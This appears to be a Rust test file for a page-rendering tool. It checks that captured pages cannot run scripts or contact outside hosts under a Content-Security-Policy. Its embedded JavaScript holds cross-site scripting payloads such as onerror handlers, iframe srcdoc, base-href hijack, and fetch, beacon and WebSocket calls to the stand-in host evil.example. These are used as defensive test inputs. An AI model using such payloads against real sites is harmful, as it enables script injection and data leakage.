//! Nothing of a capture runs, and nothing leaves the page.

use serde_json::json;

use crate::driver::Browser;
use crate::pages::Pages;

/// Ways out of a page, each tried by a script that the browser lets run whatever the policy: what it
/// puts into the page is under it.
const BREAKS: &str = r#"
  const violations = [];
  document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective));
  const add = html => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box; };
  add('<img src="https://evil.example/i.png" onerror="window.hacked=1">');
  add('<img src="x" onerror="window.hacked=1">');
  add('<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>');
  add('<link rel="stylesheet" href="https://evil.example/s.css">');
  add('<object data="https://evil.example/o"></object><video src="https://evil.example/v"></video>');
  const styled = add('<p style="color: rgb(1, 2, 3)">x</p>').firstChild;
  for (const text of ['window.hacked = 1', '']) {
    const script = document.createElement('script');
    if (text) script.textContent = text; else script.src = 'https://evil.example/s.js';
    document.body.append(script);
  }
  const form = add('<form action="https://evil.example/" method="post"></form>').firstChild;
  form.submit();
  const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);
  fetch('https://evil.example/').catch(() => {});
  navigator.sendBeacon('https://evil.example/', 'x');
  new WebSocket('wss://evil.example/').onerror = () => {};
  return new Promise(resolve => setTimeout(() => resolve({
    hacked: window.hacked ?? null,
    styled: getComputedStyle(styled).color,
    base: document.baseURI,
    violations: [...new Set(violations)].sort(),
  }), 500));
"#;

/// Whether an address belongs to the page itself.
fn is_own(address: &str) -> bool {
    address.starts_with("file://") || address == "about:blank" || address.starts_with("data:")
}

pub fn hostile(browser: &Browser, pages: &Pages) {
    browser.requests();
    browser.complaints();
    for page in [
        &pages.english,
        &pages.chinese,
        &pages.external,
        &pages.many,
        &pages.hostile,
        &pages.diff,
        &pages.diff_hostile,
    ] {
        browser.open(page);
        browser.run(
            "for (const details of document.querySelectorAll('details')) details.open = true;",
        );
        browser.wait("document.querySelector('.chip')");
        assert!(browser.eval("window.hacked ?? null").is_null(), "{page}");
        assert_eq!(browser.eval("({}).x ?? null"), json!(null), "{page}");
        assert_eq!(browser.complaints(), [""; 0], "{page}");
    }
    let elements = "document.querySelectorAll('img, iframe, form, base, object, [onerror], [onload], [style]').length";
    assert_eq!(browser.number(elements), 0);
    let strangers: Vec<String> = browser
        .requests()
        .into_iter()
        .filter(|url| !is_own(url))
        .collect();
    assert_eq!(strangers, [""; 0]);

    browser.open(&pages.hostile);
    let broken = browser.run(BREAKS);
    assert!(broken["hacked"].is_null(), "{broken}");
    assert_ne!(broken["styled"], "rgb(1, 2, 3)");
    assert!(
        broken["base"].as_str().unwrap().starts_with("file://"),
        "{broken}"
    );
    for directive in [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    ] {
        let all = broken["violations"].as_array().unwrap();
        assert!(
            all.iter().any(|one| one == directive),
            "{directive} in {broken}"
        );
    }
}
